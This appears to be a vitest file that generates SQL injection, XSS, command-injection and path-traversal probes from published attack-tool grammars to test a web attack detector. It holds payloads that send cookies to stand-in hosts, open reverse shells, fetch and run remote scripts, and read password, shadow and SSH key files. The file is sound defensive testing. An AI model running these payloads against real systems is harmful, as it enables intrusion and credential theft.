// Held-out probes generated from attack grammars rather than listed: sqlmap's boundaries
// (prefix/suffix pairs) around its test bodies, the PortSwigger XSS cheat sheet's tag x event
// x action shape, commix-style separators x commands x obfuscations, and dotdotpwn-style
// dot-dot encodings x depths x targets. Written from those tools' published grammars, none
// from the development corpus. Measured when first generated (session 5; no rule was changed
// because of them): sqlmap 465/465, xss 298/298, cmdi 142/144, path 150/150. The floors pin
// those counts; the failure message lists what is missed.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { createDetector, type Detector } from '../../src/index.js';

let d: Detector;
beforeAll(async () => { d = await createDetector({ paranoia: 1 }); });
afterAll(async () => { await d.close(); });

function missed(payloads: string[]): string[] {
  return payloads.filter((p) => !d.scan(p, { context: 'query' }).blocked);
}

function sqlmapShapes(): string[] {
  const bounds: Array<[string, string]> = [
    ['', ''], ['', '-- -'], ['', '#'], [')', ' AND (1=1'], ["'", " AND 'x'='x"], ["'", '-- -'], ["')", " AND ('x'='x"], ["'))", " AND (('x'='x"],
    ['"', ' AND "x"="x'], ['")', '-- -'], ["%'", " AND '%'='"], ['', ' AND 1=1'], [')', '-- -'], ["'", '#'], ['"', '#'],
  ];
  const bodies = [
    'AND 4821=4821', 'OR NOT 4821=7713', 'AND 4821=7713', 'AND MAKE_SET(4821=4821,7713)', 'AND ELT(4821=4821,7713)',
    'RLIKE (SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0x28 END))',
    'AND EXTRACTVALUE(4821,CONCAT(0x5c,0x7171,(SELECT (ELT(4821=4821,1))),0x7171))',
    'OR 1 GROUP BY CONCAT(0x7171,(SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0 END)),0x7171,FLOOR(RAND(0)*2)) HAVING MIN(0)',
    'AND 4821=CONVERT(INT,(SELECT CHAR(113)+CHAR(113)+(SELECT (CASE WHEN (4821=4821) THEN CHAR(49) ELSE CHAR(48) END))))',
    'AND 4821=CAST((CHR(113)||CHR(113))||(SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0 END))::text AS NUMERIC)',
    'AND SLEEP(5)', 'AND (SELECT 4821 FROM (SELECT(SLEEP(5)))abcd)', 'OR 4821=BENCHMARK(5000000,MD5(0x414243))',
    'AND 4821=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)', ';SELECT PG_SLEEP(5)', ";WAITFOR DELAY '0:0:5'",
    'UNION ALL SELECT NULL,NULL,NULL', 'UNION ALL SELECT NULL,CONCAT(0x7171,0x4142,0x7171),NULL', 'ORDER BY 1', 'ORDER BY 7',
    'AND 4821=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL)',
    'AND GTID_SUBSET(CONCAT(0x7171,(SELECT (ELT(4821=4821,1))),0x7171),4821)',
    'AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7171,(SELECT (ELT(4821=4821,1))),0x7171)) USING utf8)))',
    'AND 4821 IN (SELECT (CHAR(113)+CHAR(113)+(SELECT (CASE WHEN (4821=4821) THEN CHAR(49) ELSE CHAR(48) END))))',
    'AND ROW(4821,7713)>(SELECT COUNT(*),CONCAT(0x7171,(SELECT (ELT(4821=4821,1))),0x7171,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)',
    'AND 4821=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))', 'AND 4821=(SELECT 4821 FROM PG_SLEEP(5))',
    'OR 2>1', 'AND 7713 BETWEEN 7713 AND 7713', 'AND 1 IN (SELECT 1)', 'OR ASCII(SUBSTRING(CURRENT_USER,1,1))>64',
  ];
  const out: string[] = [];
  for (const b of bodies) {
    for (const [prefix, suffix] of bounds) {
      const tail = suffix === '' ? '' : suffix.startsWith('-') || suffix === '#' ? ` ${suffix}` : suffix;
      out.push(`1${prefix} ${b}${tail}`.replace(/ +/g, ' '));
    }
  }
  return [...new Set(out)];
}

function xssShapes(): string[] {
  const tags = ['img src=x', 'svg', 'body', 'details open', 'video src=1', 'audio src=1', 'iframe src=x', 'input autofocus', 'marquee', 'object data=x',
    'select autofocus', 'textarea autofocus', 'a href=#', 'xss', 'custom-tag tabindex=1', 'math', 'style', 'form', 'button'];
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpointerenter', 'onbeforetoggle', 'onfocusin', 'onstart', 'onbegin', 'onscrollend'];
  const acts = ['alert(1)', 'alert`1`', 'print()', 'confirm(document.domain)', 'eval(atob(`YWxlcnQoMSk=`))', 'top[`al`+`ert`](1)', 'window.location=`//evil.test`',
    'fetch(`//e.test?c=`+document.cookie)', '(alert)(1)', 'import(`//e.test/x.js`)'];
  const out: string[] = [];
  let i = 0;
  for (const t of tags) for (const e of events) out.push(`<${t} ${e}=${acts[i++ % acts.length]}>`);
  for (const a of acts) {
    out.push(`"><script>${a}</script>`, `'-${a}-'`, `";${a};//`, `javascript:${a}`, `</script><svg/onload=${a}>`, `<a href="javascript:${a}">x</a>`, `{{constructor.constructor('${a}')()}}`);
  }
  return out;
}

function cmdiShapes(): string[] {
  const seps = [';', '|', '||', '&&', '&', '\n', '`', '$(', '%0a'];
  const cmds = ['id', 'whoami', 'cat /etc/passwd', 'uname -a', 'nc -e /bin/sh 10.0.0.1 4444', 'curl http://e.test/x|sh', 'wget -qO- e.test/s|bash', 'ping -c 3 127.0.0.1',
    'sleep 5', 'ls -la /', 'echo hi > /tmp/x', 'python -c "import os"', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'powershell -enc SQBFAFgA', 'type C:\\Windows\\win.ini', 'net user'];
  const obfuscations = [(c: string) => c, (c: string) => c.replace(/ /g, '${IFS}'), (c: string) => c.replace(/^(\w)(\w)/, "$1''$2"),
    (c: string) => c.replace(/^(\w)(\w)/, '$1\\$2'), (c: string) => c.replace(/ /g, '\t')];
  const out: string[] = [];
  let i = 0;
  for (const s of seps) {
    for (const c of cmds) {
      const body = obfuscations[i++ % obfuscations.length]!(c);
      out.push(s === '`' ? `x\`${body}\`` : s === '$(' ? `x$(${body})` : `127.0.0.1${s}${body}`);
    }
  }
  return out;
}

function pathShapes(): string[] {
  const dotdots = ['../', '..\\', '%2e%2e%2f', '%2e%2e/', '..%2f', '%2e%2e%5c', '..%5c', '%252e%252e%252f', '....//', '..;/', '%c0%ae%c0%ae/', '..%c0%af', '.%2e/',
    '%uff0e%uff0e/', '..%255c'];
  const targets = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'boot.ini', 'proc/self/environ', 'var/log/apache2/access.log', 'WEB-INF/web.xml', '.env',
    'home/user/.ssh/id_rsa', 'app/config/database.yml'];
  const out: string[] = [];
  let i = 0;
  for (const dd of dotdots) for (const t of targets) out.push(dd.repeat(1 + (i++ % 6)) + t);
  return out;
}

describe('held-out probes generated from attack grammars', () => {
  it('sqlmap boundaries x test bodies', () => {
    const all = sqlmapShapes();
    expect(all.length).toBe(465);
    const m = missed(all);
    expect(m.length, `missed:\n${m.join('\n')}`).toBeLessThanOrEqual(0); // measured 465/465
  });
  it('XSS tag x event x action, and the usual breakouts', () => {
    const all = xssShapes();
    expect(all.length).toBe(298);
    const m = missed(all);
    expect(m.length, `missed:\n${m.join('\n')}`).toBeLessThanOrEqual(0); // measured 298/298
  });
  it('command separators x commands x obfuscations', () => {
    const all = cmdiShapes();
    expect(all.length).toBe(144);
    const m = missed(all);
    // measured 142/144 when generated: obfuscated names in a backtick glued to a word (x`p\\ing ...`) were read
    // as one shell word with the word before; 144/144 since an opening backtick with a word after it starts one
    expect(m.length, `missed:\n${m.join('\n')}`).toBeLessThanOrEqual(0);
  });
  it('dot-dot encodings x depths x targets', () => {
    const all = pathShapes();
    expect(all.length).toBe(150);
    const m = missed(all);
    expect(m.length, `missed:\n${m.join('\n')}`).toBeLessThanOrEqual(0); // measured 150/150
  });
});
